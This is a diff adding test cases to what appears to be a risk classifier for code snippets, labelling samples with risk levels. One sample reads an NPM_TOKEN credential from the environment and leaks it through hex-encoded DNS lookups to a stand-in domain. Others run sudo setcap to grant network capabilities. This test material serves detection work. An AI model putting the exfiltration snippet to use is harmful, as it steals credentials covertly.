@@ -2010,6 +2010,31 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             M,
         ),
+        # a credential from the environment spelled into DNS names
+        (
+            """
+            import os, socket, binascii
+            h = binascii.hexlify(os.environ["NPM_TOKEN"].encode()).decode()
+            for i in range(0, len(h), 40):
+                socket.gethostbyname(f"{h[i:i+40]}.n.example.com")
+            """,
+            C,
+        ),
+        (
+            """
+            import os, socket
+            print(socket.gethostbyname(os.environ.get("DB_HOST", "localhost")))
+            """,
+            S,
+        ),
+        (
+            """
+            import os, subprocess, sys
+            subprocess.run(["sudo", "setcap", "cap_net_bind_service=+ep", os.path.realpath(sys.executable)])
+            """,
+            H,
+        ),
+        ('import subprocess\nsubprocess.run(["sudo", "setcap", "cap_net_bind_service=+ep", "build/server"])', M),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
